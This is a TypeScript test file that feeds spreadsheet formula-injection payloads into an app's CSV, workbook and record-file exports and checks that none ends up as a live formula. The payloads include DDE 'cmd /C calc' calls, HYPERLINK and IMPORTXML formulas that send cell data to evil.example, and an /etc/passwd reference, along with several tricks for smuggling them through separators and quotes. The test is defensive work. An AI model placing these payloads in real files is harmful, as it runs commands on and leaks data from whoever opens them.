import { readXlsx } from 'hucre/xlsx'
import { csv } from '../../src/screens/lists/csv.ts'
import { xlsx } from '../../src/screens/lists/xlsx.ts'
import type { Column } from '../../src/ui/table/column.ts'
import { readFile } from '../../server/model/upkeep/file/readFile.ts'
import { fileHeader, fileLines } from '../../server/model/upkeep/file/writeFile.ts'
import type { KeptType } from '../../server/model/upkeep/keptType.ts'
import { promise } from './promise.ts'

interface Row {
  id: string
  title: string
  counterparty: string
}

const columns: Column<Row>[] = [
  { key: 'id', header: 'ID', cell: () => '', value: ({ id }) => id },
  { key: 'title', header: 'Title', cell: () => '', value: ({ title }) => title },
  { key: 'counterparty', header: 'Counterparty', cell: () => '', text: ({ counterparty }) => counterparty },
]

const attacks = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1;"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "='file:///etc/passwd'#$passwd.A1",
  '-1',
  '\t=1',
  '\r=1',
]

/**
 * Ways to bring an attack to the beginning of a cell: by what spreadsheets skip, and by ends of cells in the middle.
 */
const ways: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `"${attack}`,
  (attack) => `"${attack}"`,
  (attack) => `x","${attack}`,
  (attack) => `x",${attack}`,
  (attack) => `x,${attack}`,
  (attack) => `x;${attack}`,
  (attack) => `x";"${attack}`,
  (attack) => `x\t${attack}`,
  (attack) => `x\n${attack}`,
  (attack) => `x\r\n${attack}`,
  (attack) => `x\r${attack}`,
  (attack) => `x"\r\n${attack}`,
  (attack) => `"\r\n${attack}`,
  (attack) => `\n${attack}`,
  (attack) => `\t${attack}`,
  (attack) => attack.replace(/^[=+\-@]/, (first) => String.fromCodePoint((first.codePointAt(0) ?? 0) + 0xfee0)),
]

/**
 * The cells of a CSV file (RFC 4180), by the separator that the reader takes; a quote inside a cell is only a quote.
 */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = []
  let rest = text.replace(/^\uFEFF/, '')
  while (rest !== '') {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest)
    const plain = quoted ? '' : (new RegExp(`^[^${separator}\r\n]*`).exec(rest)?.[0] ?? '')
    cells.push(quoted ? (quoted[1] ?? '').replaceAll('""', '"') : plain)
    rest = rest.slice(quoted ? quoted[0].length : plain.length).replace(new RegExp(`^(${separator}|\r\n|\r|\n)`), '')
  }
  return cells
}

/** Spreadsheets take these for a formula's beginning, some of them also in full width. */
const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/

/** In a workbook every payload is a text, as it was typed. */
async function wrongInWorkbook(payloads: string[]): Promise<string[]> {
  async function* rows() {
    yield payloads.map((payload) => ({ id: payload, title: payload, counterparty: payload }))
  }
  const { sheets } = await readXlsx(await new Response(xlsx('Requests', columns, rows())).arrayBuffer())
  const found = sheets[0]?.rows.slice(1) ?? []
  const formulas = [...(sheets[0]?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)
  return [
    ...payloads
      .filter((payload, place) => [0, 1, 2].some((column) => found[place]?.[column] !== payload))
      .map((payload) => `${JSON.stringify(payload)} is another text in a workbook.`),
    ...formulas.map(({ formula }) => `A workbook has the formula ${formula}.`),
  ]
}

const separators = [',', ';', '\t']

/** A number, or a line of numbers to who separates by something else than commas. */
const numbers = /^-?\d+(,-?\d+)*$/

/** What a file would compute, by whichever separator it is read. */
const formulasIn = (text: string, payload: string): string[] =>
  separators.flatMap((separator) =>
    cellsOf(text, separator)
      .filter((cell) => formula.test(cell) && !numbers.test(cell))
      .map((cell) => `${JSON.stringify(payload)}, read by ${JSON.stringify(separator)}: ${JSON.stringify(cell)}`),
  )

const field = { title: 'X', type: 'string' } as const
const type: KeptType = {
  name: 'payloads',
  title: 'Payloads',
  key: 'id',
  label: '{id}',
  fields: { id: field, title: field, counterparty: field },
  list: ['id'],
  required: ['id'],
  upkeep: { propose: [], approve: [] },
  optionNames: {},
  once: [],
}

/** A file of records computes nothing either, and says the same when it is imported again. */
async function wrongInRecords(payload: string): Promise<string[]> {
  const text = payload.trim()
  const values = { id: text, title: text, counterparty: text }
  const file = fileHeader(type) + fileLines(type, [values])
  const { rows } = await readFile(type, file)
  const isSame = Object.values(values).every((value, n) => Object.values(rows[0]?.values ?? {})[n] === value)
  return [
    ...(isSame ? [] : [`${JSON.stringify(payload)} is another text in a file of records.`]),
    ...formulasIn(file, payload),
  ]
}

promise(19, { short: {}, full: {} }, async () => {
  const payloads = attacks.flatMap((attack) => ways.map((way) => way(attack)))
  const wrong = payloads.flatMap((payload) => {
    const text = csv(columns, [{ id: payload, title: payload, counterparty: payload }])
    const whole = cellsOf(text, ',').slice(3)
    return [
      ...(whole.length === 3 ? [] : [`${JSON.stringify(payload)} makes ${whole.length} cells of 3.`]),
      ...formulasIn(text, payload),
    ]
  })
  for (const payload of payloads) wrong.push(...(await wrongInRecords(payload)))
  wrong.push(...(await wrongInWorkbook(payloads)))
  return {
    figure:
      `${payloads.length} payloads in three cells each, read by commas, semicolons and tabs, in a workbook, and in a file of records: ` +
      `${wrong.length} formulas`,
    wrong: wrong.slice(0, 20),
  }
})
